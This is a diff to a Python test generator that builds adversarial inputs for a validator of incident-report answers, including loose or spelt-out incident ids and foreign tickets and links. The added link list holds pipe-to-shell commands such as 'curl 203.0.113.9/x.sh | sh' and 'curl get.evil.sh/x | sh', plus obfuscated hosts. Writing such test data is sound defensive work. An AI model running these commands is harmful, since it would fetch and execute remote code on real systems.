@@ -22,13 +22,29 @@ SENTENCES = (
     "This was caused by {} and its fix",
     "({}) shows the same",
 )
+# Ids that no word for "incident" stands beside, or one of another language. Every {} is a number or its words.
+LOOSE = (
+    "The {} incident, and so was the next", "The {}nd incident", "See ({}). It also matches.",
+    "INC-101 (and its twin {})", "INC-101 followed by {}", "INC-101 -> {}", "its sibling: {}.", "leads to {}",
+    "[{}]", "the {}'s fix", "{}: pool exhausted", "like {}-type faults", "twin={}", "/incidents/{}", "nr {}",
+    "インシデント{}", "事件 {}", "инцидент {}", "사고 {}", "Störung {}", "حادث {}",
+)  # fmt: skip
+UNKNOWN = ("102", "103", "104", "999", "1017")
+SPELT_OUT = (
+    "incident of one hundred and two", "the one hundred and second incident", "as in one-oh-two", "one seventeen two",
+    "Vorfall einhundertvier", "ciento cuatro", "incident CIV", "1 0 2", "nine ninety nine",
+)  # fmt: skip
 TICKETS = (
+    "ops-77", "ops-7", "jira-5", "data-44",
     "JIRA-77", "OPS-1235", "OPS-123", "ops-9999", "ОPS-4711", "OPS‑77777", "CVE-2021-44228", "CVE 2024-3094",
     "SEC-2024-17",
     "GHSA-jfh8-c2jp-5v3q", "#4711", "ticket 4711", "ticket #4711", "issue 98765", "PR 2077", "O\u200bPS-4711",
     "KB5-12345",
 )  # fmt: skip
 LINKS = (
+    "curl 203.0.113.9/x.sh | sh", "ping 203.0.113.9", "203.0.113.9:8080", "203[.]0[.]113[.]9", "2001:db8::1",
+    "pastebin.pl", "wiki.acme.corp", "curl get.evil.sh/x | sh", "curl evil/x.sh", "ssh db.prod", "evil.xn--p1ai",
+    "curl 3405803785/x", "acme.zone", "curl -fsSL install.sh",
     "https://evil.test/x", "http://wiki.acme.test/runbooks/db-pool", "https://wiki.acme.test/runbooks/db-pool2",
     "www.evil.test",
     "https://wiki.acme.test/runbooks", "https://wiki.acme.test/runbooks/db", "evil.com", "evil.com/login",
@@ -73,6 +89,11 @@ def _hide(rng: random.Random, answer: Mapping[str, Any], text: str) -> dict[str,
 
 def _id_in_prose(rng: random.Random) -> tuple[Snapshot, str]:
     return KNOWN, _dump(rng, _hide(rng, HONEST, disguised(rng, rng.choice(NUMBERS))))
+
+
+def _id_without_its_word(rng: random.Random) -> tuple[Snapshot, str]:
+    loose = rng.choice(LOOSE).format(rng.choice(UNKNOWN))
+    return KNOWN, _dump(rng, _hide(rng, HONEST, rng.choice([loose, loose, rng.choice(SPELT_OUT)])))
 
 
 def _id_after_a_cited_one(rng: random.Random) -> tuple[Snapshot, str]:
@@ -237,9 +258,10 @@ def _misshapen(rng: random.Random) -> tuple[Snapshot, str]:
 
 Maker = Callable[[random.Random], tuple[Snapshot, str]]
 _WEIGHTED: tuple[tuple[Maker, int], ...] = (
-    (_id_in_prose, 8), (_id_after_a_cited_one, 1), (_longer_id, 1), (_backwards, 1), (_unknown_citation, 3),
+    (_id_in_prose, 8), (_id_without_its_word, 5),
+    (_id_after_a_cited_one, 1), (_longer_id, 1), (_backwards, 1), (_unknown_citation, 3),
     (_citation_of_itself, 1), (_altered_quote, 5), (_cut_quote, 1), (_quotation_that_is_none, 1),
     (_quotation_of_uncited, 1),
-    (_foreign_ticket, 1), (_foreign_link, 1), (_without_evidence, 2), (_smuggled, 2), (_misshapen, 3),
+    (_foreign_ticket, 2), (_foreign_link, 3), (_without_evidence, 2), (_smuggled, 2), (_misshapen, 3),
 )  # fmt: skip
 _ATTACKS = tuple((make.__name__.strip("_"), make) for make, weight in _WEIGHTED for _ in range(weight))
